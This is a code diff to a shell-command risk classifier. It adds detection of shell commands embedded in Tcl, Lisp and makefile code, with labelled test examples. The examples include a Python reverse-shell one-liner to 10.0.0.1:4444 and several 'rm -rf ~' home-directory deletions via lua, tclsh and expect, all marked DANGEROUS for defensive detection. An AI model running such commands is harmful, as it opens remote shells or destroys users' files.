@@ -8,6 +8,7 @@ from __future__ import annotations
 import re
 
 from nlshell.risk.book import Rule, hook
+from nlshell.risk.embedded import shell_commands
 from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
 from nlshell.risk.paths import classify, delete_level, overwrite_level
 from nlshell.shell.patterns import lazy
@@ -149,6 +150,8 @@ def inline_code(ctx, kind: str, code: str, cmd) -> None:
             inner = m.group("s").replace("\\'", "'").replace('\\"', '"')
             if inner:
                 ctx.merge(ctx.nested(inner), cmd)
+    for line in shell_commands(kind, code):  # Tcl's `exec`, Lisp's `shell-command`, a makefile's recipes
+        ctx.merge(ctx.nested(line), cmd)
     for m in _SHELL_OUT_LIST.finditer(code):
         parts = re.findall(r"""['"]([^'"]*)['"]""", m.group("l"))
         if parts:
@@ -254,4 +257,10 @@ EXAMPLES = [
     ("python3 -c 'import socket,os,pty; s=socket.socket(); s.connect((\"10.0.0.1\",4444)); os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")'", DANGEROUS, "oneliner.reverse-shell"),
     ("python3 -c 'import socket; print(socket.gethostname())'", SAFE, "not oneliner.reverse-shell"),
     ("lua -e 'os.execute(\"rm -rf ~\")'", DANGEROUS, "files.delete-broad"),
+    ("tclsh <<< 'exec rm -rf ~'", DANGEROUS, "files.delete-broad"),
+    ("echo 'file delete -force ~' | tclsh", DANGEROUS, "files.delete-broad"),
+    ("expect -c 'spawn rm -rf ~'", DANGEROUS, "files.delete-broad"),
+    ("echo 'puts [clock seconds]' | tclsh", SAFE, "not files.delete-broad"),
+    ("tclsh <<< 'puts [exec ls -l]'", SAFE, "not files.delete-broad"),
+    ("tclsh backup.tcl", SAFE, "not files.delete-broad"),
 ]
